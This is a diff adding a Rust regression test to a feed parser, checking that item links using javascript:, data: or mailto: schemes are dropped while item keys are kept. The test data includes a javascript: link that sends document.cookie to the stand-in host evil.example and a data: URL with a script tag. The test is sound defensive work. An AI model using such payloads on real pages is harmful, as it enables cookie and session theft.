@@ -395,3 +395,30 @@ fn an_item_of_many_links_keeps_what_the_parser_can_afford() {
     );
     assert_eq!(feed.items[0].categories, vec!["World"]);
 }
+
+/// Regression: an item's link that was no web address (`javascript:`, `data:`) reached the
+/// alerts, templates and webhook JSON unchanged (the README says `link` is "the item's
+/// http(s) URL, or none"), where a receiver rendering it as an `href` ran it. Now such an
+/// item has no link; its key is what it was, so no item becomes new again.
+#[test]
+fn a_link_that_is_no_web_address_is_no_link() {
+    let body = rss_items(concat!(
+        "<item><title>Script</title><link>javascript:fetch('//evil.example/?c='+document.cookie)</link></item>",
+        "<item><title>Data</title><guid isPermaLink=\"false\">d1</guid><link>data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;</link></item>",
+        "<item><title>Mail</title><guid isPermaLink=\"false\">m1</guid><link>mailto:desk@site.example</link></item>",
+        "<item><title>Web</title><link>https://site.example/a</link></item>",
+    ));
+    let feed = parse_feed(&body);
+    let links: Vec<Option<&str>> = feed.items.iter().map(|i| i.link.as_deref()).collect();
+    assert_eq!(links, [None, None, None, Some("https://site.example/a")]);
+    let keys: Vec<&str> = feed.items.iter().map(|i| i.key.0.as_str()).collect();
+    assert_eq!(
+        keys,
+        [
+            "javascript:fetch('//evil.example/?c='+document.cookie)",
+            "d1",
+            "m1",
+            "https://site.example/a"
+        ]
+    );
+}
